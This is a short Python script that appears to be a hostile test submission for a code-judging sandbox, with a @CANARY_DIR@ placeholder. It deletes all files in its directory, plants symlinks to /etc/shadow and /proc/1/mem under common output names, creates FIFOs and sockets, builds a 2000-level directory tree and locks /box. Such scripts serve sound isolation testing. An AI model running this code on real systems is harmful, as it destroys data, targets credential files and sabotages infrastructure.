import os, socket

print("attempt", flush=True)
os.umask(0)
for name in os.listdir("."):
    os.unlink(name)
targets = ["@CANARY_DIR@/open", "@CANARY_DIR@", "/etc/shadow", "/proc/1/mem", "/dev/zero", "/proc/self/fd/1", "."]
NAMES = ["main.py", "main.c", "main", "a.out", "stdin", "stdout", "stderr", "out", "output", "result", "box", "compile.log",
         "code", ".cache", "__pycache__", "core", "tmp"]
for place in ["/box", "/tmp", "/dev/shm"]:
    for number, name in enumerate(NAMES):
        kind = number % 4
        path = f"{place}/{name}"
        if kind < 2:
            os.symlink(targets[number % len(targets)], path)
        elif kind == 2:
            os.mkfifo(path)
        else:
            socket.socket(socket.AF_UNIX).bind(path)
os.mkdir("/box/deep")
os.chdir("/box/deep")
for _ in range(2000):
    os.mkdir("d")
    os.chdir("d")
os.symlink("@CANARY_DIR@", "bait")
os.chmod("/box", 0)
